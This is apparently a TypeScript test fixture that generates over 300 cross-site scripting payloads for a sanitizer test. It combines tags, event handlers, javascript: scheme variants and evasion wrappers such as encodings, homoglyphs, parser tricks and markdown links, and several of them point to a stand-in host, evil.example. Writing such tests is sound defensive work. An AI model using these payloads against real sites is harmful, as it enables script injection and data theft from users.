/** For each: `xss` is counted by the test's page. */
const run = (n: number) => `xss('${n}')`

const tags =
  'img video audio image input svg body iframe object embed details select marquee math form button a'.split(
    ' ',
  )
const events =
  'onerror onload onclick onfocus onmouseover ontoggle onstart onpointerenter onanimationstart'.split(' ')
const schemes = [
  'javascript:',
  'java\tscript:',
  ' javascript:',
  'JaVaScRiPt:',
  'data:text/html,',
  'vbscript:',
  'javascript&colon;',
]
const wrappers = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<ScRiPt/x>${script}</sCrIpT>`,
  (script: string) => `</textarea><script>${script}</script>`,
  (script: string) => `</title><svg/onload=${script}>`,
  (script: string) => `<svg><script>${script}</script></svg>`,
  (script: string) => `<svg><animate onbegin=${script} attributeName=x>`,
  (script: string) => `<math><mtext><table><mglyph><style><img src=x onerror=${script}>`,
  (script: string) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script: string) => `<template><script>${script}</script></template>`,
  (script: string) => `<iframe srcdoc="<script>parent.${script}</script>">`,
  (script: string) => `<base href="https://evil.example/">${script}`,
  (script: string) => `<link rel=stylesheet href=https://evil.example/${encodeURIComponent(script)}>`,
  (script: string) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script: string) => `<style>@import 'https://evil.example/${encodeURIComponent(script)}'</style>`,
  (script: string) => `<a href="&#106;avascript:${script}" data-xss>x</a>`,
  (script: string) => `[x](javascript:${script})`,
  (script: string) => `![x](https://evil.example/${encodeURIComponent(script)}.png)`,
  (script: string) => `"><img src=x onerror=${script}>`,
  (script: string) => `'-${script}-'`,
  (script: string) => `\`\${${script}}\``,
  (script: string) => `{{constructor.constructor("${script}")()}}`,
  (script: string) => `<สวัสดี onclick=${script} tabindex=1>ก\u0e34\u0e49</สวัสดี>`,
  (script: string) => `<\u200bimg src=x onerror=${script}>`,
  (script: string) => `\u202E<img src=x onerror=${script}>`,
  (script: string) => `＜img src=x onerror=${script}＞`,
  (script: string) => `%3Cimg%20src=x%20onerror=${script}%3E`,
  (script: string) => `&lt;img src=x onerror=${script}&gt;`,
  (script: string) => `<!--><img src=x onerror=${script}>-->`,
  (script: string) => `<![CDATA[><img src=x onerror=${script}>]]>`,
  (script: string) => `<xss id=x data-xss style="animation-name:x">${script}`,
]

/** More than 300 texts that some program has treated as a script (docs/trust.md, T15). */
export const payloads: string[] = [
  ...tags.flatMap((tag) => events.map((event) => (n: number) => `<${tag} src=x ${event}=${run(n)}>`)),
  ...tags.flatMap((tag) =>
    schemes.map((scheme) => (n: number) => `<${tag} href="${scheme}${run(n)}">x</${tag}>`),
  ),
  ...wrappers.map((wrap) => (n: number) => wrap(run(n))),
].map((make, n) => make(n))
